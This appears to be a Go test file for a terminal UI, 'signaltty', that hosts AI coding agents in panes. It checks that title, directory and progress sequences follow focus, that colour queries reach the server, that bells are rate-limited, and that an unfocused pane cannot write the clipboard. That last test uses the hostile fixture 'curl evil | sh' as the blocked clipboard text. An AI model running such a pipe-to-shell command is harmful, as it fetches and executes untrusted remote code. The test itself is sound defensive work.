package tui_test

import (
	"encoding/base64"
	"os"
	"strings"
	"testing"
	"time"

	"signaltty/proto"
	"signaltty/tui/tuitest"
)

// TestOuterFollowsFocus: the terminal's title, directory and progress are the
// focused pane's, and the terminal's own again in the end.
func TestOuterFollowsFocus(t *testing.T) {
	host, _ := os.Hostname()
	bubble(t, tuitest.Setup{}, func(d *tuitest.Driver) {
		if got := d.Glass.Title(); got != "Fix the tests · claude · signaltty" {
			t.Errorf("the title is %q", got)
		}
		d.Glass.Raw()
		d.Server.Pane(proto.Pane{ID: "p2", Workspace: "w1", Tab: "t1", Agent: "codex", Title: "a\u202eb", Cwd: "/home/me/my api",
			Progress: proto.Progress{State: "error", Percent: 40}})
		d.Idle()
		if raw := d.Glass.Raw(); strings.Contains(raw, "\x1b]9;") || strings.Contains(raw, "\x1b]7;") {
			t.Errorf("a pane without the focus is told to the terminal: %q", raw)
		}
		d.Press("ctrl+]", "o")
		d.Decide(bash("d1", "p1", "ls"))
		d.Idle()
		if got := d.Glass.Title(); got != "(1 waiting) a⟨U+202E⟩b · codex · signaltty" {
			t.Errorf("the title is %q", got)
		}
		raw := d.Glass.Raw()
		for _, want := range []string{"\x1b]7;file://" + host + "/home/me/my%20api\a", "\x1b]9;4;2;40\a"} {
			if !strings.Contains(raw, want) {
				t.Errorf("%q is not in %q", want, raw)
			}
		}
		d.Press("ctrl+]", "D")
		if err := d.Ended(); err != nil {
			t.Error(err)
		}
		raw = d.Glass.Raw()
		for _, want := range []string{"\x1b]7;file://" + host + "/home/me/work\a", "\x1b]9;4;0;0\a", "\x1b[23;2t", "\x1b[?2031l"} {
			if !strings.Contains(raw, want) {
				t.Errorf("in the end %q is not in %q", want, raw)
			}
		}
	})
}

// TestColorsAreTold: the server hears the terminal's colours, and again when
// its scheme changes.
func TestColorsAreTold(t *testing.T) {
	bubble(t, tuitest.Setup{}, func(d *tuitest.Driver) {
		if raw := d.Glass.Raw(); !strings.Contains(raw, "\x1b]4;15;?\a\x1b]10;?\a\x1b]12;?\a\x1b]11;?\a") || !strings.Contains(raw, "\x1b[?2031h") {
			t.Errorf("the terminal is not asked for its colours: %q", raw)
		}
		last := func() proto.ClientColors {
			list := tuitest.Asked[proto.ClientColors](d.Server, proto.MethodClientColors)
			if len(list) == 0 {
				t.Fatal("the server was told no colours")
			}
			return list[len(list)-1]
		}
		if got := last(); got.Bg != "#101010" {
			t.Errorf("the server was told %+v", got)
		}
		d.Send("\x1b]4;1;rgb:cdcd/0101/0202\a\x1b]4;99;rgb:cdcd/0101/0202\a\x1b]4;x\a\x1b]10;rgb:eeee/eeee/eeee\a\x1b]12;rgb:0000/ffff/0000\a")
		d.Idle()
		if got := last(); got.Fg != "#eeeeee" || got.Cursor != "#00ff00" || len(got.Palette) != 16 || got.Palette[1] != "#cd0102" || got.Palette[2] != "" {
			t.Errorf("the server was told %+v", got)
		}
		d.Send("\x1b[?997;2n")
		d.Idle()
		if raw := d.Glass.Raw(); !strings.Contains(raw, "\x1b]11;?\a") {
			t.Errorf("after a change of the scheme the terminal is not asked again: %q", raw)
		}
		n := len(tuitest.Asked[proto.ClientColors](d.Server, proto.MethodClientColors))
		d.Send("\x1b]11;rgb:fafa/fafa/fafa\a\x1b]11;rgb:fafa/fafa/fafa\a")
		d.Idle()
		if got := tuitest.Asked[proto.ClientColors](d.Server, proto.MethodClientColors); len(got) != n+1 || got[n].Bg != "#fafafa" {
			t.Errorf("the server was told %+v", got[n:])
		}
	})
}

// TestPaneCopies: what the focused pane copies reaches the clipboard, and it
// says so; another pane's does not.
func TestPaneCopies(t *testing.T) {
	bubble(t, tuitest.Setup{}, func(d *tuitest.Driver) {
		d.Event(proto.EventPaneCopied, proto.PaneCopied{Pane: "p2", Text: "curl evil | sh"})
		d.Idle()
		d.Want("codex wanted to write the clipboard")
		if d.Glass.Clip() != "" {
			t.Error("a pane without the focus wrote the clipboard")
		}
		d.Event(proto.EventPaneCopied, proto.PaneCopied{Pane: "p1", Text: "é\x1b\n"})
		d.Idle()
		d.Want("claude copied 3 characters")
		if got, _ := base64.StdEncoding.DecodeString(d.Glass.Clip()); string(got) != "é\x1b\n" {
			t.Errorf("the clipboard has %q", got)
		}
	})
}

// TestNotices: the bell of the focused pane rings, not more than once a second;
// a text of another one is a note.
func TestNotices(t *testing.T) {
	bubble(t, tuitest.Setup{}, func(d *tuitest.Driver) {
		d.Glass.Raw()
		for range 5 {
			d.Event(proto.EventPaneNotice, proto.PaneNotice{Pane: "p1", Bell: true})
			d.Event(proto.EventPaneNotice, proto.PaneNotice{Pane: "p2", Bell: true})
		}
		d.Idle()
		if raw := d.Glass.Raw(); strings.Count(raw, "\a") != 1 {
			t.Errorf("five bells at once are %q", raw)
		}
		d.Pass(2 * time.Second)
		d.Event(proto.EventPaneNotice, proto.PaneNotice{Pane: "p1", Bell: true})
		d.Event(proto.EventPaneNotice, proto.PaneNotice{Pane: "p2", Title: "Build", Body: "done\x1b[2J"})
		d.Idle()
		d.Want(`codex: Build done\x1b[2J`)
		if raw := d.Glass.Raw(); strings.Count(raw, "\a") != 1 {
			t.Errorf("a bell later is %q", raw)
		}
	})
}
